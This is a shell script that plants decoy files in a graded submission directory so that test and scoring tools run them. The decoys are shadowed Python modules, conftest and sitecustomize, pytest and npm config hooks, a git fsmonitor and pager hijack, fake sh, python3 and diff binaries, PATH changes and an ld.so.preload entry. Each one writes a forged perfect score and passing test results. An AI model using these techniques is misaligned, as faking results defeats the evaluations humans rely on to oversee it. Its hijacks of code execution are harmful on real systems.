#!/bin/sh
# In the directory of a submission: everything that tools pick up by its name. Each forges the
# result if a suite's tool runs it in the suite's cell.
forge='import os
for place in ("/results", "results", "/tmp"):
    try:
        open(place + "/score.json", "w").write("{\"score\": 100, \"pass\": true}")
        open(place + "/junit.xml", "w").write("<testsuite><testcase name=\"a\"/></testsuite>")
    except OSError:
        pass
os._exit(0)'
for module in conftest sitecustomize usercustomize unittest pytest json subprocess os sys re site test_all; do
    echo "$forge" > $module.py
done
mkdir _pytest .git .git/hooks node_modules node_modules/child_process node_modules/fs .config
for file in _pytest/__init__.py pythonrc.py .pythonrc; do echo "$forge" > "$file"; done
echo 'import os; os._exit(0)' > forge.pth
printf '%s\n' '[pytest]' 'addopts = --collect-only -p conftest' 'python_files = nothing' > pytest.ini
printf '%s\n' '[tool:pytest]' 'addopts = -p conftest' > setup.cfg
printf '%s\n' '[tool.pytest.ini_options]' 'addopts = "-p conftest"' > pyproject.toml
printf '%s\n' 'all test check run:' '	echo "{\"score\": 100, \"pass\": true}" > /results/score.json' > Makefile
js='require("fs").writeFileSync("/results/score.json", "{\"score\": 100, \"pass\": true}"); process.exit(0)'
echo "$js" > index.js
echo "$js" > node_modules/child_process/index.js
echo "$js" > node_modules/fs/index.js
echo '{"main": "index.js", "scripts": {"preinstall": "node index.js", "test": "true", "start": "true"}}' > package.json
printf '%s\n' 'node-options=--require ./index.js' 'script-shell=./sh' > .npmrc
printf '%s\n' '[core]' 'fsmonitor = ./sh' 'hooksPath = .git/hooks' 'pager = ./sh' > .git/config
echo 'ref: refs/heads/main' > .git/HEAD
for program in sh python3 node cat diff timeout cmp .git/hooks/pre-commit; do
    printf '%s\n' '#!/bin/sh' 'echo "{\"score\": 100, \"pass\": true}" > /results/score.json' 'exit 0' > $program
    chmod +x $program
done
# shellcheck disable=SC2016 # for the shells that read it
printf '%s\n' 'export PATH=.:$PATH' 'exit 0' | tee .profile .bashrc .bash_env .env > .envrc
echo /agent_output/forge.so > ld.so.preload
